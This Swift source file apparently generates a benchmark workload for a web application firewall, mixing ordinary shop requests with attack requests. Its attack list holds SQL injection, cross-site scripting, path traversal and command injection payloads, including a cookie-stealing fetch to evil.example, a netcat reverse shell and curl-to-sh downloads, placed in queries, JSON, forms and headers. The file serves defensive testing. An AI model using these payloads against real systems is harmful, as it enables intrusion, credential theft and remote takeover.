import Foundation
import Recommender

/// The requests `bench waf` inspects: a deterministic mix of what a shop sees — browsers fetching products
/// with their User-Agent, cookies and Referer, searches (look-alikes such as `O'Reilly` and `rock & roll`
/// among them), JSON orders, sign-ins and events — and attacks of every class the detectors know, plain and
/// encoded, in query strings, JSON bodies, forms and headers.
struct WAFWorkload {
    struct Request {
        enum Kind: String, CaseIterable { case typical, benign, attack }
        var kind: Kind
        var method: String
        var target: String
        var headers: [(name: String, value: String)]
        var body: [UInt8]
    }

    static let userAgents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    ]

    static let searches = ["green tea", "O'Reilly", "rock & roll", "select wine", "drop earrings", "<3 gifts", "50% off", "t-shirt (red)",
                           "kids' shoes", "union jack mug", "coffee beans 1kg", "café au lait", "bath & body", "C++ primer",
                           "what's new", "gift card", "order by price", "tea; cups", "echo dot", "path of exile"]

    static let attacks = [
        "1' OR '1'='1", "' UNION SELECT username, password FROM users--", "1; DROP TABLE orders--", "1' AND SLEEP(5)--",
        "admin'--", "1' UnIoN/**/SeLeCt null,version()--", "%2527%2520OR%25201%253D1--", "1 AND 1=CONVERT(int,@@version)",
        "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "\"><iframe src=javascript:alert(1)>",
        "; cat /etc/passwd", "| nc -e /bin/sh 203.0.113.9 4444", "$(curl http://evil.example/x.sh | sh)", "`id`", "&& wget http://evil.example/a",
        "../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fshadow", "....//....//windows/win.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    ]

    /// `count` requests, every fifth an attack, from a fixed seed.
    static func make(count: Int, seed: UInt64 = 7) -> [Request] {
        var random = SplitMix64(seed: seed)
        return (0..<count).map { index in
            if index % 5 == 4 { return attack(&random) }
            return index % 5 < 2 ? typical(&random) : benign(&random)
        }
    }

    /// A browser asking for a product page's data: the request most of a shop's traffic looks like.
    static func typical(_ random: inout SplitMix64) -> Request {
        let product = Int.random(in: 1...1200, using: &random)
        return Request(kind: .typical, method: "GET", target: "/api/products/p\(product)", headers: browserHeaders(&random), body: [])
    }

    static func browserHeaders(_ random: inout SplitMix64) -> [(name: String, value: String)] {
        let user = Int.random(in: 0..<200, using: &random)
        return [("Host", "shop.example"), ("User-Agent", userAgents[user % userAgents.count]),
                ("Accept", "application/json, text/plain, */*"), ("Accept-Language", "ja,en-US;q=0.9,en;q=0.8"),
                ("Accept-Encoding", "gzip, deflate, br"), ("Referer", "https://shop.example/products?page=\(user % 7 + 1)"),
                ("Cookie", "sid=\(String(user, radix: 16))f3a9c2e1b7d45; theme=dark; consent=analytics%3Dno")]
    }

    static func benign(_ random: inout SplitMix64) -> Request {
        var headers = browserHeaders(&random)
        switch Int.random(in: 0..<4, using: &random) {
        case 0:
            let query = searches.randomElement(using: &random)!.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
            return Request(kind: .benign, method: "GET", target: "/api/products?q=\(query)&limit=20", headers: headers, body: [])
        case 1:
            headers.append(("Content-Type", "application/json"))
            headers.append(("Authorization", "Bearer eyJ1c2VyIjoiODQyIn0.c2lnbmF0dXJlLWJ5dGVz"))
            let lines = (0..<Int.random(in: 1...4, using: &random)).map { _ in
                #"{"productId":"p\#(Int.random(in: 1...1200, using: &random))","quantity":\#(Int.random(in: 1...3, using: &random))}"#
            }
            let body = #"{"idempotencyKey":"order-\#(random.next() % 1_000_000)","lines":[\#(lines.joined(separator: ","))]}"#
            return Request(kind: .benign, method: "POST", target: "/api/orders", headers: headers, body: Array(body.utf8))
        case 2:
            headers.append(("Content-Type", "application/json"))
            let body = #"{"email":"shopper\#(random.next() % 10_000)@example.com","password":"Tr0ub4dor&3-horse#\#(random.next() % 1000)"}"#
            return Request(kind: .benign, method: "POST", target: "/api/sessions", headers: headers, body: Array(body.utf8))
        default:
            headers.append(("Content-Type", "application/json"))
            let body = #"{"type":"view","productId":"p\#(Int.random(in: 1...1200, using: &random))","referrer":"search: \#(searches.randomElement(using: &random)!)"}"#
            return Request(kind: .benign, method: "POST", target: "/api/events", headers: headers, body: Array(body.utf8))
        }
    }

    static func attack(_ random: inout SplitMix64) -> Request {
        let payload = attacks.randomElement(using: &random)!
        var headers = browserHeaders(&random)
        switch Int.random(in: 0..<4, using: &random) {
        case 0:
            let encoded = payload.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
            return Request(kind: .attack, method: "GET", target: "/api/products?q=\(encoded)", headers: headers, body: [])
        case 1:
            headers.append(("Content-Type", "application/json"))
            let escaped = payload.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
            let body = #"{"type":"view","productId":"\#(escaped)"}"#
            return Request(kind: .attack, method: "POST", target: "/api/events", headers: headers, body: Array(body.utf8))
        case 2:
            headers.append(("Content-Type", "application/x-www-form-urlencoded"))
            let body = "email=a%40example.com&password=" + payload.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
            return Request(kind: .attack, method: "POST", target: "/api/sessions", headers: headers, body: Array(body.utf8))
        default:
            headers.append(("X-Campaign", payload))
            return Request(kind: .attack, method: "GET", target: "/api/products/p\(Int.random(in: 1...1200, using: &random))", headers: headers, body: [])
        }
    }
}
